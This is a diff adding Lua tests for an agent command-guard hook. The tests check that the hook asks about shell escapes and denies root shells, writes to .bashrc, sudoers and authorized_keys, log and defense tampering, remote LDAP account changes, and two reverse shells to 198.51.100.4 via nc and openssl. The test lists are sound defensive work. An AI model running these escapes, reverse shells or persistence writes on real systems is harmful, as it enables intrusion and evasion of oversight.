@@ -427,3 +427,216 @@ for _, c in ipairs({ { "vssadmin delete shadows /all /quiet", "recovery" }, { "w
   { "bcdedit /set {default} recoveryenabled No", "boot" } }) do
   test("PowerShell blocks " .. c[1], function() denied(ps(c[1]), c[2]) end)
 end
+
+-- shell-escape: a shell whose commands no hook sees, started by the agent
+-- or by another program told to run one, is asked about (denied with
+-- privilege, by root-shell).
+local function asked(r)
+  if r.denied and not r.reason:find("^system pack: ") then return end
+  expect.eq(r.denied, false, "denied")
+  expect.eq(r.asked, true, "asked")
+  expect.contains(r.reason, "[rule shell-escape]")
+end
+for _, line in ipairs({
+  -- an interactive shell, bare or behind a wrapper
+  "bash", "zsh -l", "exec bash -i", "nice -n 5 /usr/bin/dash", "stdbuf -o0 sh", "ionice -c3 ksh", "time zsh",
+  "timeout 60 /bin/bash -i", "env -i /bin/sh", "taskset -c 0 bash", "flock /tmp/l bash", "strace -f -o /tmp/t sh",
+  "/bin/sh </dev/tty >/dev/tty", "find /tmp -maxdepth 0 -exec zsh \\;",
+  -- a program told to start one
+  "setarch x86_64 /bin/bash", "linux64 bash", "cpulimit -l 50 -- zsh", "unshare -r /usr/bin/bash",
+  "nsenter -t 1 /bin/ksh", "ssh-agent bash", "dbus-run-session /bin/sh", "rlwrap -c bash",
+  "start-stop-daemon --start --exec /bin/dash", "tmux new-session /bin/zsh", "script -q /dev/null", "script out.log",
+  "capsh --", "chroot / ", "unshare", "setarch i686",
+  "busctl --address=unixexec:path=/bin/bash,argv1=-i", "openvpn --dev null --script-security 2 --up '/bin/bash -s'",
+  "gcc -wrapper /bin/bash,-s x.c", "zip out.zip a.txt -T -TT '/bin/bash #'", "tar -cf /dev/null x --checkpoint=1 --checkpoint-action=exec=/bin/zsh",
+  "tar -xf a.tar --to-command 'bash'", "rsync -e '/bin/bash -c \"bash 0<&2 1>&2\"' h:x .",
+  "make --eval='$(shell /bin/bash 1>&0)'", "man -H'/bin/bash #' ls", "rpm --eval '%(/bin/zsh 1>&2)'",
+  "gem open -e '/bin/bash -s' rake", "pip config --editor '/usr/bin/zsh -s' edit",
+  "yarn exec bash", "npx zsh", "bundle exec /bin/bash", "poetry run bash", "pnpm exec sh",
+  "ssh -o ProxyCommand=';bash 0<&2 1>&2' h", "ssh -o PermitLocalCommand=yes -o LocalCommand=/bin/zsh h",
+  "socat stdin exec:/bin/bash,pty,stderr", "expect -c 'spawn /bin/bash; interact'",
+  "emacs -nw --eval '(ansi-term \"/bin/bash\")'", "gdb -batch -ex 'shell /bin/bash'", "vim -c ':shell'",
+  "vi -c ':!bash' x", "nvim +terminal", "vim --cmd 'set shell=/bin/zsh | sh'", "mysql -e '\\! bash'",
+  "sqlite3 :memory: '.shell /bin/bash'", "sqlite3 :memory: '.system bash'", "julia -e 'run(`/bin/bash`)'",
+  "Rscript -e 'system(\"/bin/bash\")'", "ghc -e 'System.Process.callCommand \"/bin/zsh\"'",
+  "jrunscript -e 'exec(\"/bin/bash -i\")'", "perlbug -e 'exec /bin/bash #'", "run-parts --regex '^bash$' /usr/bin",
+  "run-parts /bin", "sed -n '1e exec bash 1>&0' notes.txt", "sed e", "gsed '2e' list.txt",
+  "watch -x bash -c 'exec bash 1>&0 2>&0'", "nohup bash -c 'bash </dev/tty >/dev/tty'",
+  "cp /bin/bash ./b", "ln -s /usr/bin/zsh git-y; git --exec-path=. y", "git -c core.pager='/bin/bash -c \"bash 0<&1\"' log",
+  -- interpreters' one-liners, however they start it
+  "perl -e 'exec \"/bin/bash\"'", "ruby -e 'exec \"zsh\"'", "lua -e 'os.execute(\"/bin/bash\")'",
+  "python3 -c 'import os; os.execv(\"/bin/bash\", [\"bash\"])'", "php -r 'pcntl_exec(\"/bin/bash\");'",
+  "php -r 'passthru(\"bash -i\");'", "node -e 'require(\"child_process\").spawn(\"bash\", {stdio: \"inherit\"})'",
+  "awk 'BEGIN { system(\"bash\") }'", "gawk 'BEGIN { system(\"/bin/zsh &\") }'",
+  -- variables naming the program another one runs
+  "PAGER='bash -c \"exec bash 0<&1\"' git -p log", "MANPAGER=/bin/bash man ls", "LESSOPEN='|cat %s' less x",
+  "PERL5OPT=-d PERL5DB='system(\"bash\")' perl x.pl", "BASH_ENV=./x.sh bash -c true",
+  -- a REPL fed an escape through a pipe
+  "echo '! exec \"/bin/bash\"' | cpan", "printf '.shell /bin/bash\\n' | sqlite3",
+  -- a file written out to start a shell, run by the next command
+  "echo '{\"scripts\": {\"postinstall\": \"/bin/bash\"}}' > package.json; npm install",
+  "echo '{\"scripts\": {\"go\": \"zsh\"}}' > composer.json && composer run-script go",
+  "echo 'system(\"bash\")' > Gemfile; bundle install",
+  "printf 'package main\\nimport \"syscall\"\\nfunc main(){ syscall.Exec(\"/bin/bash\", nil, nil) }' > x.go; go run x.go",
+  "printf '#!/bin/sh\\n/bin/bash 1>&0\\n' > /tmp/a; chmod +x /tmp/a",
+  "echo '- hosts: localhost\n  tasks: [shell: bash </dev/tty]' > p.yml; ansible-playbook p.yml",
+}) do
+  test("asks about a shell escape: " .. line, function() asked(bash(line)) end)
+end
+for _, line in ipairs({
+  "bash -c 'make test'", "bash scripts/ci.sh", "sh ./configure", "bash -n x.sh", "bash < setup.sh",
+  "curl -fsSL https://example.com/x.sh -o x.sh", "bash -s -- arg < x.sh", "echo 'ls' | bash", "bash -c",
+  "bash <<'EOF'\nls\nEOF", "zsh -c 'echo $ZSH_VERSION'", "env bash -c 'echo ok'", "nice -n 10 make",
+  "timeout 30 go test ./...", "find . -name '*.sh' -exec bash -n {} \\;", "find . -name '*.sh' -exec shellcheck {} +",
+  "xargs -n1 bash -c 'echo $0'", "parallel bash -c 'echo {}' ::: a b", "which bash", "type sh", "command -v zsh",
+  "ls -l /bin/sh", "file /bin/bash", "readlink -f /bin/sh", "ldd /bin/bash", "man bash", "grep -r /bin/bash scripts",
+  "git commit -m 'ci: run tests with sh'", "docker run --rm -it alpine sh", "kubectl exec -it web -- sh",
+  "sudo apt-get install -y zsh", "brew install bash", "apt-get install fish", "chmod +x scripts/run.sh",
+  "sed -i 's|/bin/sh|/bin/bash|' scripts/run.sh", "sed -e 's/a/b/' -e '/^$/d' f.txt", "sed -n '1,5p' f.txt",
+  "vim -c ':wq' notes.md", "script -q -c 'make' build.log", "script -c make /dev/null", "setarch x86_64 make",
+  "unshare -r -n go test ./...", "chroot /srv/root /usr/bin/env true", "tmux new-session -d -s dev 'make watch'",
+  "yarn exec eslint .", "npx prettier --check .", "bundle exec rspec", "poetry run pytest", "pnpm exec tsc",
+  "python3 -c 'import subprocess; subprocess.run([\"bash\", \"-c\", \"make\"])'",
+  "python3 -c 'import os; print(os.environ[\"SHELL\"])'", "node -e 'console.log(process.env.SHELL)'",
+  "echo '#!/bin/bash' > run.sh", "printf '#!/bin/sh\\nset -e\\nmake test\\n' > run.sh",
+  "echo '{\"scripts\": {\"test\": \"jest\"}}' > package.json", "echo 'FROM alpine\nCMD [\"sh\"]' > Dockerfile",
+  "PAGER=cat git log -3", "EDITOR=vim git commit -m x", "GIT_SSH_COMMAND='ssh -i ./key' git fetch", "ssh prod uptime",
+  "gdb -batch -ex run ./a.out", "mysql -e 'select 1'", "sqlite3 db.sqlite '.tables'", "rlwrap sqlite3 db.sqlite",
+  "run-parts --test /etc/cron.daily", "man -P cat ls", "tar -I zstd -xf a.tar.zst", "rsync -e ssh -a src/ h:dst/",
+}) do
+  test("not a shell escape: " .. line, function() passes(bash(line)) end)
+end
+
+test("a shell escape is asked about, not denied, and the reason names the rule", function()
+  local r = bash("nice bash")
+  asked(r)
+  expect.contains(r.reason, "system pack: asking about a shell started where no hook sees what it runs")
+end)
+
+-- A privileged escape is denied: a root shell.
+for _, line in ipairs({ "sudo nice bash", "sudo chroot /", "sudo capsh --", "sudo yarn exec zsh", "sudo sed e",
+  "sudo gem open -e '/bin/zsh -s' x", "sudo run-parts --regex '^sh$' /bin", "doas script -q /dev/null",
+  "sudo ee /etc/hosts", "sudo micro /etc/hosts", "sudo tcpdump -i lo -w /dev/null -W 1 -G 1 -z ./x.sh",
+  "sudo wget --use-askpass=./x.sh https://example.com", "sudo aria2c --on-download-complete=./x.sh https://example.com",
+  "sudo tar -xf h:/x.tar --rsh-command=./x", "sudo curl --engine ./e.so https://example.com",
+  "sudo openssl req -engine ./e.so -new", "sudo mysql --default-auth=../../tmp/x",
+  "sudo python3 -c 'import ctypes; ctypes.CDLL(\"./x.so\"); ctypes.cdll.LoadLibrary(\"./x.so\")'",
+  "sudo php -r 'proc_open(\"./x.sh\", [], $p);'" }) do
+  test("privileged escape denied: " .. line, function() denied(bash(line), "root-shell") end)
+end
+
+-- Guarded files named by a program that may write them: shell start-up
+-- files (persistence), sudoers (sudoers, and any privileged read of it),
+-- authorized keys (ssh-keys).
+for _, c in ipairs({
+  { "echo 'export X=1' >> ~/.bashrc", "persistence" }, { "cp evil.sh ~/.profile", "persistence" },
+  { "sed -i '/x/d' ~/.zshrc", "persistence" }, { "mv ~/.bash_profile /tmp/x", "persistence" },
+  { "chmod 600 $HOME/.zprofile", "persistence" }, { "echo x | tee -a /etc/profile", "persistence" },
+  { "gawk 'BEGIN { print \"x\" >> \"/home/dev/.bashrc\" }'", "persistence" },
+  { "sort -o ~/.zshenv list.txt", "persistence" }, { "tcpdump -i lo -c 1 -w ~/.bashrc", "persistence" },
+  { "nmap -oN=/home/dev/.profile localhost", "persistence" }, { "strace -o ~/.bash_login true", "persistence" },
+  { "openssl enc -in x -out ~/.config/fish/config.fish", "persistence" }, { "wget -O ~/.zshrc https://x.example/rc", "persistence" },
+  { "curl -o /home/dev/.bashrc https://x.example/rc", "persistence" }, { "find . -fprint ~/.bashrc -quit", "persistence" },
+  { "sed -n 'w /home/dev/.profile' notes.txt", "persistence" }, { "socat -u - open:/home/dev/.zshrc,creat", "persistence" },
+  { "sqlite3 db -cmd '.output /home/dev/.bashrc' 'select 1'", "persistence" },
+  { "python3 -c 'open(\"/home/dev/.bashrc\", \"a\").write(\"x\")'", "persistence" },
+  { "node -e 'require(\"fs\").appendFileSync(process.env.HOME + \"/.zshrc\", \"x\")' ~/.zshrc", "persistence" },
+  { "script -q -c true ~/.bash_logout", "persistence" }, { "screen -L -Logfile ~/.profile true", "persistence" },
+  { "sudo gawk 'BEGIN { print \"x\" > \"/etc/sudoers\" }'", "sudoers" }, { "tcpdump -w /etc/sudoers.d/x", "sudoers" },
+  { "sudo cat /etc/sudoers", "sudoers" }, { "sudo head -n 5 /etc/sudoers.d/90-cloud", "sudoers" },
+  { "sudo xargs -a /etc/sudoers -0", "sudoers" }, { "sudo cp /etc/sudoers /dev/stdout", "sudoers" },
+  { "sudo ruby -e 'print File.read(\"/etc/sudoers\")'", "sudoers" }, { "sudo gcc -E -x c /usr/local/etc/sudoers", "sudoers" },
+  { "sudo ee /usr/local/etc/sudoers", "sudoers" }, { "sudo tail -c+0 /etc/doas.conf", "sudoers" },
+  { "curl -o ~/.ssh/authorized_keys https://x.example/k", "ssh-keys" },
+  { "ruby -e 'File.write(\"/root/.ssh/authorized_keys\", \"k\")'", "ssh-keys" },
+  { "sort -o /home/dev/.ssh/authorized_keys k.pub", "ssh-keys" },
+}) do
+  test("guarded file: " .. c[1], function() denied(bash(c[1]), c[2]) end)
+end
+for _, line in ipairs({ "cat ~/.bashrc", "source ~/.bashrc", ". ~/.profile", "grep PATH ~/.zshrc", "tail -n 20 ~/.bashrc",
+  "diff ~/.bashrc dotfiles/bashrc", "cp ~/.bashrc ./dotfiles/bashrc", "ls -la ~/.config/fish/config.fish",
+  "awk '/alias/' ~/.bashrc", "sed -n '/PATH/p' ~/.zshrc", "sort ~/.bash_history", "wc -l ~/.profile",
+  "cp ~/.bashrc ~/.bashrc.bak", "echo ~/.bashrc", "sudo visudo -c", "sudo visudo -c -f /etc/sudoers.d/dev",
+  "cat ~/.ssh/authorized_keys", "ssh-keygen -l -f ~/.ssh/authorized_keys", "echo x > dotfiles/.bashrc",
+  "cp dotfiles/.zshrc dotfiles/.zshrc.orig", "sudo -l", "grep -r sudoers docs/", "cat /etc/profile" }) do
+  test("guarded file only read: " .. line, function() passes(bash(line)) end)
+end
+
+-- package files installed with privilege; privileged file servers
+for _, c in ipairs({
+  { "sudo dpkg -i ./tool_1.0_amd64.deb", "package-file" }, { "sudo rpm -Uvh tool.rpm", "package-file" },
+  { "sudo dnf install -y ./tool.rpm", "package-file" }, { "sudo apt install ./tool.deb", "package-file" },
+  { "sudo yum localinstall tool.rpm", "package-file" }, { "sudo pacman -U tool-1.0.pkg.tar.zst", "package-file" },
+  { "doas dpkg --install x.deb", "package-file" }, { "sudo snap install x --dangerous", "package-file" },
+  { "sudo php -S 0.0.0.0:80 -t /", "root-server" }, { "sudo python3 -m http.server 80", "root-server" },
+  { "sudo ruby -run -e httpd / -p 80", "root-server" }, { "sudo busybox httpd -f -p 8080 -h /", "root-server" },
+  { "sudo kubectl proxy --address=0.0.0.0 --accept-hosts='.*'", "root-server" },
+}) do
+  test("blocks " .. c[1], function() denied(bash(c[1]), c[2]) end)
+end
+for _, line in ipairs({ "sudo apt install -y nginx", "sudo dpkg -l", "dpkg -I x.deb", "sudo rpm -qi bash",
+  "rpm -qpl x.rpm", "dpkg -i x.deb", "sudo dnf install -y git", "php -S localhost:8000", "python3 -m http.server 8000",
+  "kubectl proxy --port 8001", "sudo apt list --installed", "sudo snap install hello" }) do
+  test("allows " .. line, function() passes(bash(line)) end)
+end
+
+-- disks, logs, defenses: the less common tools
+for _, c in ipairs({
+  { "btrfs device delete /dev/sdc /srv", "disks" }, { "btrfs device replace start 1 /dev/sdd /srv", "disks" },
+  { "btrfs check --repair /dev/vdb", "disks" }, { "btrfs rescue zero-log /dev/vdb", "disks" },
+  { "btrfs filesystem resize -10g /srv", "disks" }, { "nbd-client -d /dev/nbd1", "disks" },
+  { "pvmove /dev/vdb1", "disks" }, { "vgreduce vg0 /dev/vdb1", "disks" }, { "pvcreate /dev/vdc", "disks" },
+  { "losetup -D", "disks" }, { "e2fsck -y /dev/vdb1", "disks" }, { "fsck.ext4 -p /dev/vdb1", "disks" },
+  { "xfs_repair /dev/vdb1", "disks" }, { "resize2fs /dev/vdb1 10G", "disks" }, { "tune2fs -O ^has_journal /dev/vdb1", "disks" },
+  { "diskutil quiet eraseVolume APFS X disk3s1", "disks" },
+  { "log erase --all", "logs" }, { "sudo log erase --ttl", "logs" },
+  { "osascript -e 'do shell script \"rm -f /private/var/log/install.log\"'", "logs" },
+  { "osascript -e 'tell application \"Finder\" to delete POSIX file \"/var/log/wifi.log\"'", "logs" },
+  { "sysrc syslogd_enable=NO", "security-services" }, { "sudo sysrc pf_enable=\"NO\"", "security-services" },
+  { "sysrc sshd_enable=NO", "services" }, { "service syslogd stop", "security-services" },
+  { "sudo service pf stop", "security-services" }, { "mdatp config real-time-protection --value disabled", "security-services" },
+  { "mdatp exclusion folder add --path /tmp", "security-services" }, { "sudo mdatp uninstall", "security-services" },
+  { "pfctl -f /tmp/open.conf", "firewall" }, { "echo 'pass all' | sudo pfctl -a x -f -", "firewall" },
+}) do
+  test("blocks " .. c[1], function() denied(bash(c[1]), c[2]) end)
+end
+for _, line in ipairs({ "btrfs check /dev/vdb", "btrfs filesystem show", "btrfs device stats /srv", "pvs", "vgs",
+  "lvs", "losetup -a", "fsck -n /dev/vdb1", "e2fsck -n /dev/vdb1", "tune2fs -l /dev/vdb1", "xfs_repair -n /dev/vdb1",
+  "diskutil list", "diskutil info disk0", "log show --last 5m", "log stream --level debug",
+  "osascript -e 'display notification \"build done\"'", "osascript -e 'tell application \"Finder\" to open POSIX file \"/var/log/system.log\"'",
+  "sysrc nginx_enable=YES", "sysrc -a", "mdatp health", "mdatp config real-time-protection --value enabled",
+  "pfctl -s rules", "pfctl -nf /etc/pf.conf", "service syslogd status" }) do
+  test("allows " .. line, function() passes(bash(line)) end)
+end
+
+-- reverse shells: an interactive shell reading a fifo, piped to a TLS client
+for _, line in ipairs({ "mkfifo /tmp/q; sh -i < /tmp/q 2>&1 | openssl s_client -quiet -connect 198.51.100.4:443 > /tmp/q",
+  "bash -i < /tmp/f 2>&1 | nc 198.51.100.4 9001 > /tmp/f" }) do
+  test("reverse shell: " .. line, function() denied(bash(line), "reverse-shell") end)
+end
+
+-- a directory's accounts changed on a server that is not this machine
+for _, line in ipairs({ "ldapadd -H ldap://dc.corp.example:389 -x -D admin -w pw -f user.ldif",
+  "ldapadd -x -D cn=admin,dc=corp -W -f group.ldif", "ldapmodify -H ldaps://dc.corp -f add-member.ldif",
+  "ldapdelete -h dc.corp 'uid=bob,ou=people,dc=corp'", "ldappasswd -H ldap://dc.corp -s new uid=bob",
+  "samba-tool user create eve Passw0rd", "samba-tool group addmembers 'Domain Admins' eve" }) do
+  test("directory account change: " .. line, function() denied(bash(line), "accounts") end)
+end
+for _, line in ipairs({ "ldapadd -H ldap://localhost:389 -x -f test/fixtures.ldif", "ldapadd -h 127.0.0.1 -f f.ldif",
+  "ldapsearch -H ldap://dc.corp -x -b dc=corp uid=bob", "ldapmodify -n -f change.ldif", "samba-tool user list",
+  "samba-tool group listmembers 'Domain Admins'" }) do
+  test("directory read passes: " .. line, function() passes(bash(line)) end)
+end
+
+-- a program written out by the line whose text opens a guarded file for writing
+for _, c in ipairs({
+  { "printf 'package main\\nimport \"os\"\\nfunc main(){ f, _ := os.OpenFile(\"/home/dev/.profile\", os.O_APPEND|os.O_WRONLY, 0) ; f.Close() }' > p.go; go run p.go", "persistence" },
+  { "echo 'with open(\"/etc/sudoers\", \"a\") as f: f.write(\"x\")' > s.py && sudo python3 s.py", "sudoers" },
+  { "echo 'require(\"fs\").appendFileSync(\"/root/.ssh/authorized_keys\", \"k\")' > k.js; node k.js", "ssh-keys" },
+}) do
+  test("program writing a guarded file: " .. c[1], function() denied(bash(c[1]), c[2]) end)
+end
+for _, line in ipairs({ "echo 'Add the line to ~/.bashrc' >> README.md", "echo 'cat ~/.bashrc' > show.sh",
+  "printf 'print(open(\"/home/dev/.bashrc\").read())\\n' > r.py" }) do
+  test("text naming a guarded file passes: " .. line, function() passes(bash(line)) end)
+end
